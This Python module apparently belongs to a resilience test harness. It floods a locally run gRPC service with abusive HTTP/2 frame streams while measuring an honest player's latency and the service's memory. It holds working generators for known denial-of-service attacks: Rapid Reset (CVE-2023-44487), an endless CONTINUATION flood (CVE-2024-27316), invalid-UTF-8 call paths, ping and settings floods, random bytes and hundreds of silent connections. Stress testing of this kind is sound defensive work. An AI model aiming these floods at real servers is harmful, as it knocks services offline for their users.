"""Connections: floods of HTTP/2 frames that no client library sends, next to an honest player."""

from __future__ import annotations

import asyncio
import os
import struct
from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
from contextlib import suppress
from functools import partial
from itertools import count
from pathlib import Path
from time import monotonic

from bench.ports import free_port
from lab.attacks import frames, honest_players
from lab.attacks.figures import Figure, at_least, at_most
from lab.attacks.frames import frame
from lab.service_process import running

Attacker = Callable[[int], Coroutine[None, None, None]]

SECONDS = 6.0
CONNECTIONS = 2
SILENT = 400
PER_WRITE = 50


def rapid_reset() -> Iterator[bytes]:
    """Open calls and cancel each at once (CVE-2023-44487)."""
    cancel = struct.pack(">I", frames.CANCEL)
    for stream in count(1, 2):
        yield (
            frame(frames.HEADERS, frames.END_HEADERS, stream, frames.CALL)
            + frame(frames.DATA, frames.END_STREAM, stream, frames.EMPTY_MESSAGE)
            + frame(frames.RST_STREAM, 0, stream, cancel)
        )


def endless_headers() -> Iterator[bytes]:
    """Send headers that never end (CVE-2024-27316)."""
    yield frame(frames.HEADERS, 0, 1, frames.CALL)
    for number in count():
        yield frame(frames.CONTINUATION, 0, 1, frames.literal(b"a%d" % number, b"b" * 100))


def unfinished_calls() -> Iterator[bytes]:
    """Open calls whose messages never come."""
    for stream in count(1, 2):
        yield frame(frames.HEADERS, frames.END_HEADERS, stream, frames.CALL)


def no_texts() -> Iterator[bytes]:
    """Call what is not UTF-8, which crashed grpc.aio's server in some releases."""
    path = frames.call_to(b"/gunbai.referee.v1.Lobby/\xe9")
    for stream in count(1, 2):
        yield (
            frame(frames.HEADERS, frames.END_HEADERS, stream, path)
            + frame(frames.DATA, frames.END_STREAM, stream, frames.EMPTY_MESSAGE)
        )


def pings() -> Iterator[bytes]:
    """Ask only for echoes."""
    while True:
        yield frame(frames.PING, 0, 0, b"12345678")


def settings() -> Iterator[bytes]:
    """Change a setting, over and over."""
    while True:
        yield frame(frames.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))


def noise() -> Iterator[bytes]:
    """Send what is not a frame."""
    while True:
        yield os.urandom(40)


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid reset": rapid_reset,
    "headers without end": endless_headers,
    "calls never ended": unfinished_calls,
    "calls to what is no text": no_texts,
    "pings": pings,
    "settings": settings,
    "noise": noise,
}


async def attack(folder: Path) -> AsyncIterator[Figure]:
    """Flood the service in each way, within the default quotas."""
    port = free_port()
    ways: dict[str, list[Attacker]] = {
        name: [partial(_flooding, flood)] * CONNECTIONS for name, flood in FLOODS.items()
    }
    ways[f"{SILENT} silent connections"] = [_silent] * SILENT
    players, peak = [], 0.0
    async with running(folder, port, quotas=True) as process:
        for name, attackers in ways.items():
            attacks = (attacker(port) for attacker in attackers)
            player, highest = await honest_players.next_to(process, port, SECONDS, attacks)
            players.append(player)
            peak = max(peak, highest)
            yield Figure(f"{name}: an honest turn, p50 and p99", f"{player.median_ms} and {player.p99_ms} ms")
        alive = process.returncode is None
    yield at_least("turns that the honest player made", sum(player.turns for player in players), 1)
    yield at_most("honest calls that failed", sum(player.failed() for player in players), 0, before="60")
    yield at_most("the service's highest memory", peak, 300, "MiB", before="522 MiB")
    yield at_least("services that live", int(alive), 1)


async def _flooding(flood: Callable[[], Iterator[bytes]], port: int) -> None:
    """Flood over one connection after another: the service may close them."""
    end = monotonic() + SECONDS
    while monotonic() < end:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            drained = asyncio.create_task(_discard(reader))
            try:
                writer.write(frames.GREETING + frames.ACKNOWLEDGEMENT)
                sent = flood()
                while monotonic() < end and not drained.done():
                    writer.write(b"".join(next(sent) for _ in range(PER_WRITE)))
                    await writer.drain()
                    await asyncio.sleep(0)
            finally:
                drained.cancel()
                writer.close()
        await asyncio.sleep(0.05)


async def _silent(port: int) -> None:
    """Open a connection and say nothing."""
    with suppress(OSError):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        with suppress(TimeoutError):
            await asyncio.wait_for(_discard(reader), SECONDS)
        writer.close()


async def _discard(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(1 << 16):
            pass
